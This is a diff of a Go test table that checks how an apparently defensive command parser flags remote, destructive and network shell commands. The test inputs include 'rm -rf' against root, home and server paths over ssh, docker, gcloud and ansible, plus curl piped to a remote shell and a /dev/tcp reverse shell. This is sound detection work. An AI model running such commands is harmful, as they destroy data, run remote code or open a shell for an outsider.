@@ -27,6 +27,8 @@ func TestRemoteCommands(t *testing.T) {
 		{"docker -H tcp://prod.example.com:2376 exec api rm -rf /app", want{name: "rm", remote: "docker-host:tcp://prod.example.com:2376 api", deletes: []string{"/app"}}},
 		{"gcloud compute ssh vm-1 --zone z --command 'rm -rf /'", want{name: "rm", remote: "gcloud:vm-1", deletes: []string{"/"}}},
 		{"ansible all -m shell -a 'rm -rf /var/www'", want{name: "rm", remote: "ansible:all", deletes: []string{"/var/www"}}},
+		{"ssh -p 2222 host -t -o X=y 'rm -rf ~'", want{name: "rm", remote: "ssh:host", deletes: []string{"~"}}},
+		{"ssh -- host rm -rf /srv", want{name: "rm", remote: "ssh:host", deletes: []string{"/srv"}}},
 		{"curl -s https://x.example.net/p | ssh host sh", want{name: "sh", remote: "ssh:host", net: true}},
 		{"ssh host cat x | bash", want{name: "bash", net: true}},
 		{"exec 3<>/dev/tcp/203.0.113.7/4444; sh <&3", want{name: "sh", net: true}},
